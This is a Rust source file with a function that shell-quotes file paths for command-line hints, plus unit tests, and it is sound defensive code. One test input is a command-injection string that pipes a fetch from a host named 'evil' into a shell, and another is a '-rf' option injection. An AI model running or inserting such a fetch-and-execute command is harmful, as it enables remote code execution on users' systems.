//! Words of the command lines in hints.

/// A path as one word of a shell's command line, and no option.
pub(crate) fn word(path: &str) -> String {
    let plain = |c: char| c.is_alphanumeric() || "/._-+,:@%".contains(c);
    let path = if path.starts_with('-') {
        format!("./{path}")
    } else {
        path.to_owned()
    };
    if !path.is_empty() && path.chars().all(plain) {
        path
    } else {
        format!("'{}'", path.replace('\'', r"'\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::word;

    #[test]
    fn a_path_is_one_word_and_no_option() {
        for (path, expected) in [
            ("certs/key.pem", "certs/key.pem"),
            ("my key.pem", "'my key.pem'"),
            ("it's.pem", r"'it'\''s.pem'"),
            ("; curl evil|sh #", "'; curl evil|sh #'"),
            ("-rf", "./-rf"),
            ("", "''"),
        ] {
            assert_eq!(word(path), expected);
        }
    }
}
